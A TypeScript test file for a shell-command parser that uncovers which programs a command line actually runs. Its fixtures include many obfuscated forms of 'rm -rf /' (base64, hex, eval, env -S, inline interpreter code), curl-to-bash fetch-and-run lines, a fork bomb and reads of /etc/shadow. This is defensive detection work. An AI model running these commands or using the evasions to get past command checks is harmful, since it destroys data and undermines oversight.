import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { readShell } from './read-shell.ts'

/** `via > via: words`, with unknown words in angle brackets. */
const lines = (text: string): readonly string[] =>
  readShell(text).commands.map((one) => {
    const words = one.words.map((word) => (word.known ? word.text : `<${word.text}>`)).join(' ')
    return one.via.length === 0 ? words : `${one.via.join(' > ')}: ${words}`
  })

/** A text, and a command that must be found in it. */
const finds: readonly (readonly [string, string])[] = [
  ['cd x && git push -f origin main', 'git push -f origin main'],
  ['true; rm -rf /', 'rm -rf /'],
  ['false || rm -rf /', 'rm -rf /'],
  ['ls | rm -rf /', 'rm -rf /'],
  ['rm -rf / &', 'rm -rf /'],
  ['! rm -rf /', 'rm -rf /'],
  ['time rm -rf /', 'rm -rf /'],
  ['coproc rm -rf /', 'rm -rf /'],
  ['(rm -rf /)', 'rm -rf /'],
  ['{ rm -rf /; }', 'rm -rf /'],
  ['if true; then rm -rf /; fi', 'rm -rf /'],
  ['while true; do rm -rf /; done', 'rm -rf /'],
  ['case x in x) rm -rf /;; esac', 'rm -rf /'],
  ['f() { rm -rf /; }; f', 'rm -rf /'],
  ['for d in / /home; do rm -rf $d; done', 'rm -rf /home'],
  ["r''m -rf /", 'rm -rf /'],
  ['\\rm -rf /', 'rm -rf /'],
  ['"rm" -rf /', 'rm -rf /'],
  ["$'\\x72m' -rf /", 'rm -rf /'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's own
  ['rm${IFS}-rf${IFS}/', 'rm -rf /'],
  ['x=rm; $x -rf /', 'rm -rf /'],
  ['r=r m=m; $r$m -rf /', 'rm -rf /'],
  ['export x=rm; $x -rf /', 'rm -rf /'],
  ['rm -rf {/,/home}', 'rm -rf / /home'],
  ['$(echo rm) -rf /', 'rm -rf /'],
  ['rm -rf `echo /`', 'rm -rf /'],
  ['echo $(rm -rf /)', '$(…): rm -rf /'],
  ['echo $((1+$(rm -rf /)))', '$(…): rm -rf /'],
  ['cat <(rm -rf /)', '<(…): rm -rf /'],
  ['x=$(rm -rf /)', '$(…): rm -rf /'],
  ['cat <<EOF\n$(rm -rf /)\nEOF', '$(…): rm -rf /'],
  ['sudo -u root rm -rf /', 'sudo: rm -rf /'],
  ['env -i A=1 timeout -k 5 10 nice -n 3 rm -rf /', 'env > timeout > nice: rm -rf /'],
  ['/usr/bin/env rm -rf /', 'env: rm -rf /'],
  ["env -S 'rm -rf /'", 'env -S: rm -rf /'],
  ['command rm -rf /', 'command: rm -rf /'],
  ['busybox rm -rf /', 'busybox: rm -rf /'],
  ['sh -c "rm -rf /"', 'sh -c: rm -rf /'],
  ["bash -lc 'rm -rf /'", 'bash -c: rm -rf /'],
  ["bash -o pipefail -c 'rm -rf /'", 'bash -c: rm -rf /'],
  ["su - bob -c 'rm -rf /'", 'su -c: rm -rf /'],
  ['eval "rm -rf /"', 'eval: rm -rf /'],
  ["trap 'rm -rf /' EXIT", 'trap: rm -rf /'],
  ['echo "rm -rf /" | sh', '| sh: rm -rf /'],
  ["sh <<< 'rm -rf /'", '| sh: rm -rf /'],
  ['bash -s <<EOF\nrm -rf /\nEOF', '| bash: rm -rf /'],
  ['echo cm0gLXJmIC8K | base64 -d | sh', '| sh: rm -rf /'],
  ['echo 726d202d7266202f | xxd -r -p | sh', '| sh: rm -rf /'],
  ["echo '/ fr- mr' | rev | sh", '| sh: rm -rf /'],
  ['printf "\\x72\\x6d -rf /" | sh', '| sh: rm -rf /'],
  ['echo / | xargs rm -rf', 'xargs: rm -rf /'],
  ['echo / | xargs -I{} rm -rf {}', 'xargs: rm -rf /'],
  ['ls | xargs rm -rf', 'xargs: rm -rf <…>'],
  ['find / -name x -exec rm -rf {} \\;', 'find /: rm -rf </…/x>'],
  ['ssh -p 22 host "rm -rf /; ls"', 'ssh host: rm -rf /'],
  ['docker exec -it web sh -c "rm -rf /data"', 'docker exec > sh -c: rm -rf /data'],
  ['kubectl exec -it pod -- rm -rf /', 'kubectl exec: rm -rf /'],
  ['npx --yes rimraf /', 'npx: rimraf /'],
  ['find src -exec rm {} +', 'find src: rm <src/*>'],
  ['find src -name "*.o" | xargs rm', 'xargs: rm <src/…>'],
  ["ssh host <<'EOF'\nrm -rf /\nEOF", '| ssh host: rm -rf /'],
  ['parallel rm -rf ::: /etc /usr', 'parallel: rm -rf /etc /usr'],
  ['git submodule foreach --recursive git reset --hard', 'git submodule foreach: git reset --hard'],
  ["vim -c ':!rm -rf /'", 'vim code: rm -rf /'],
  ["sed '1e rm -rf /' x", 'sed code: rm -rf /'],
  ["tar cf x y --checkpoint-action=exec='rm -rf /'", 'tar --checkpoint-action: rm -rf /'],
  ['make -f - <<EOF\nall:\n\trm -rf /\nEOF', '| make -f -: rm -rf /'],
  ['echo "rm -rf /" > x.sh && sh ./x.sh', 'sh ./x.sh: rm -rf /'],
  ["cat > x.sh <<'EOF'\nrm -rf /\nEOF\n./x.sh", './x.sh: rm -rf /'],
  ['IFS=,; c=rm,-rf,/; $c', 'rm -rf /'],
  ['python3 -c "os.system(\'rm -rf \'+x)"', 'python3 code: rm -rf …'],
  ['cmd /c "rd /s /q C:\\Users\\dev"', 'cmd /c: rd /s /q C:/Users/dev'],
  ['powershell -Command "Remove-Item -Recurse C:\\x"', 'powershell -Command: Remove-Item -Recurse C:/x'],
  ['pwsh -enc cgBtACAALQByAGYAIAAvAA==', 'pwsh -enc: rm -rf /'],
  ["watch -n 1 'rm -rf /'", 'watch: rm -rf /'],
  ['python3 -c \'import os; os.system("rm -rf /")\'', 'python3 code: rm -rf /'],
  ["python3 - <<'EOF'\nimport subprocess\nsubprocess.run(['rm', '-rf', '/'])\nEOF", 'python3 code: rm -rf /'],
  ["node -e \"require('child_process').execSync('rm -rf /')\"", 'node code: rm -rf /'],
  ["node -e \"spawn('rm', ['-rf', '/'])\"", 'node code: rm -rf /'],
  ['perl -e \'system("rm -rf /")\'', 'perl code: rm -rf /'],
  ["ruby -e '`rm -rf /`'", 'ruby code: rm -rf /'],
  ['awk \'BEGIN{system("rm -rf /")}\'', 'awk code: rm -rf /'],
  ['$UNSET rm -rf /', '$UNSET: rm -rf /'],
  ['set -- rm -rf /; "$@"', 'rm -rf /'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's own
  ['a=(rm -rf /); "${a[@]}"', 'rm -rf /'],
  ['a=(/); rm -rf $a', 'rm -rf /'],
  [`bash -c '"$@"' _ rm -rf /`, 'bash -c: rm -rf /'],
  ["X='rm -rf /' bash -c '$X'", 'bash -c: rm -rf /'],
  ['ls(){ rm "$@"; }; ls -rf /', 'ls(): rm -rf /'],
  ['alias ls=rm; ls -rf /', 'alias: rm -rf /'],
  ['{rm,-rf,"$HOME"}', 'rm -rf ~'],
  ["{'r'm,-rf,/}", 'rm -rf /'],
  ['{r\\m,-rf,/}', 'rm -rf /'],
  ['{r{m,},-rf,/}', 'rm r -rf /'],
  ['rm -rf /{a..c}', 'rm -rf /a /b /c'],
  ['rm -rf {a,"/"}', 'rm -rf a /'],
  ["echo 'rm -rf /' | tee >(sh)", '>(…) > | sh: rm -rf /'],
  ["echo 'rm -rf /' > >(sh)", '>(…) > | sh: rm -rf /'],
  ['env - rm -rf /', 'env: rm -rf /'],
  ["env -S'rm -rf /'", 'env -S: rm -rf /'],
  ["env -vS 'rm -rf /'", 'env -S: rm -rf /'],
  ["script -qc 'rm -rf /' x", 'script -c: rm -rf /'],
  ['bwrap --dev-bind / / --unshare-all rm -rf /', 'bwrap: rm -rf /'],
  ['setpriv --reuid 0 rm -rf /', 'setpriv: rm -rf /'],
  ['screen -dmS x rm -rf /', 'screen: rm -rf /'],
  ['xterm -e rm -rf /', 'xterm -e: rm -rf /'],
  ['/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /', 'ld-linux-x86-64.so.2: /bin/rm -rf /'],
  ['cmake -E rm -rf /', 'cmake -E: rm -rf /'],
  [`python3 -c'import os; os.system("rm -rf /")'`, 'python3 code: rm -rf /'],
  [`node --eval='execSync("rm -rf /")'`, 'node code: rm -rf /'],
  ["perl -e 'system qw(rm -rf /)'", 'perl code: rm -rf /'],
  [`awk 'BEGIN{"rm -rf /"|getline}'`, 'awk code: rm -rf /'],
  [`awk 'BEGIN{print | "rm -rf /"}'`, 'awk code: rm -rf /'],
  ["sed 's|.*|rm -rf /|e' x", 'sed code: rm -rf /'],
  ["tcsh -c 'rm -rf /'", 'tcsh -c: rm -rf /'],
  ["test -v 'a[$(rm -rf /)]'", 'test: rm -rf /'],
  ["printf -v 'a[$(rm -rf /)]' x", 'printf: rm -rf /'],
  ['rm -rf "$HOME/x"', 'rm -rf ~/x'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's own
  ['rm -rf ${x:-/}', 'rm -rf </>'],
]

describe('a program is found', () => {
  test.each(finds)('in %s', (text, line) => {
    expect(lines(text)).toContain(line)
  })
})

test.each([
  ['A=/tmp/x && A=/etc/shadow && cat $A', '/etc/shadow'],
  ['A=/tmp/x && A=/etc/shadow; cat $A', '/etc/shadow'],
  ['A=1; make && A=2 && echo $A', '2'],
  ['A=1; make && A=2; echo $A', '$A'],
  ['A=1; make || A=2; echo $A', '$A'],
])('%s: a part of a chain sees the assignments of the parts before it', (text, value) =>
  expect(readShell(text).commands.at(-1)?.words[1]?.text).toBe(value),
)

test('a command that is only mentioned in a text is not started', () => {
  expect(lines('git commit -m "never rm -rf / again"')).toEqual(['git commit -m never rm -rf / again'])
  expect(lines("echo 'rm -rf /'")).toEqual(['echo rm -rf /'])
  expect(lines('cat > notes.md <<"EOF"\nrm -rf /\nEOF')).toEqual(['cat'])
})

test.each(['toString', 'valueOf', 'constructor', '__proto__'])('a program may be called %s', (name) => {
  expect(lines(`${name} x | sh`)).toEqual([`${name} x`, 'sh'])
})

test('redirections are files that are opened', () => {
  const { files } = readShell('sort < in.txt > out.txt 2>> err.log; { a; b; } &> all.log; echo x >&2')
  expect(files.map((file) => [file.how, file.path.text, file.by])).toEqual([
    ['read', 'in.txt', 'sort'],
    ['write', 'out.txt', 'sort'],
    ['append', 'err.log', 'sort'],
    ['write', 'all.log', ''],
  ])
})

test.each([
  ['foo "unterminated', 'unparsable'],
  ['curl https://x.example | bash', 'unknown-code'],
  ['bash <(curl -s https://x.example)', 'unknown-code'],
  ['sh -c "$(curl -fsSL https://x.example)"', 'unknown-code'],
  ['eval "$CODE"', 'unknown-code'],
  ['$cmd --now', 'unknown-program'],
  ['$cmd --now', 'unknown-code'],
  ['read -r C <<< "rm -rf ~"; $C', 'unknown-code'],
  ['while read l; do $l; done < x', 'unknown-code'],
  ['$(cat x)', 'unknown-code'],
  ['"$(<x)"', 'unknown-code'],
  ['/bin/r? -rf ~', 'unknown-code'],
  ['/bin/[r]m -rf ~', 'unknown-code'],
  ['declare -n a=b; b="rm -rf ~"; $a', 'unknown-code'],
  [':(){ :|:& };:', 'endless'],
  ['while true; do yes & done', 'endless'],
])('an unknown part is reported as a doubt: %s', (text, kind) => {
  expect(readShell(text).doubts.map((doubt) => doubt.kind)).toContain(kind)
})

test.each([
  '$EDITOR file',
  '"$PYTHON" -m pytest',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's own
  '${CC:-cc} x.c',
  '$(npm bin)/eslint .',
  '"$(which node)" x.js',
  '"$dir"/run.sh',
  'run() { echo "+ $*"; "$@"; }; run npm test',
  'for f in tests/*.sh; do $f; done',
  '[ -f x ] && echo y',
])('a program that usually comes from the environment is not reported as unknown code: %s', (text) => {
  expect(readShell(text).doubts.map((doubt) => doubt.kind)).not.toContain('unknown-code')
})

test('lists every stage of a pipe into a shell as a source of its text', () => {
  expect(readShell('curl x | cat | sed s/a/b/ | sh').doubts[0]?.from).toEqual(['sed', 'cat', 'curl'])
  expect(readShell('curl x > >(bash)').doubts.map((doubt) => doubt.from)).toContainEqual(['curl'])
})

test('stops reading a very long text', () => {
  expect(readShell(`sh -c "${'x'.repeat(70_000)}"`).doubts.map((doubt) => doubt.kind)).toContain('too-much')
})

test('a loop that waits, and a function that calls itself once, are not endless', () => {
  expect(readShell('while true; do curl localhost & sleep 5; done').doubts).toEqual([])
  expect(readShell('walk() { ls "$1"; walk "$1/.."; }; walk src').doubts).toEqual([])
})

test('a value that a branch may have changed is not known', () => {
  expect(lines('x=/; if a; then x=/tmp/y; fi; rm -rf $x')).toContain('rm -rf <$x>')
})

test('cd sets the directory of the next command', () => {
  const cwds = readShell('cd src && cd lib && ls; (cd /; ls); pwd').commands.map((one) => [one.name, one.cwd])
  expect(cwds).toEqual([
    ['cd', undefined],
    ['cd', 'src'],
    ['ls', 'src/lib'],
    ['cd', 'src/lib'],
    ['ls', '/'],
    ['pwd', 'src/lib'],
  ])
})

test('reads any text without an error, and reports deep nesting as a doubt', () => {
  const pieces = [
    'rm',
    ' ',
    '-rf',
    '$(',
    ')',
    '"',
    "'",
    '`',
    '|',
    ';',
    '&&',
    '{',
    '}',
    '<<EOF\n',
    '\n',
    '$x',
    '${',
    '(',
    'sh -c ',
    'xargs ',
  ]
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), (some) => void readShell(some.join(''))),
  )
  fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => void readShell(text)))
  const deep = `${'echo $('.repeat(400)}true${')'.repeat(400)}`
  expect(readShell(deep).doubts.length).toBeGreaterThan(0)
})

test('a text for PowerShell is also read with its backslashes, for programs that read them', () => {
  const { commands } = readShell("[Environment]::OSVersion.ToString(); printf '%b' '\\162\\155\\40\\57' | bash")
  expect(commands.map(({ name }) => name)).toContain('rm')
})

test('caches the reading of the last text', () => {
  const first = readShell('git push && ls')
  expect(readShell('git push && ls')).toBe(first)
  expect(readShell('git push').commands).toHaveLength(1)
  expect(readShell('git push && ls')).toEqual(first)
})
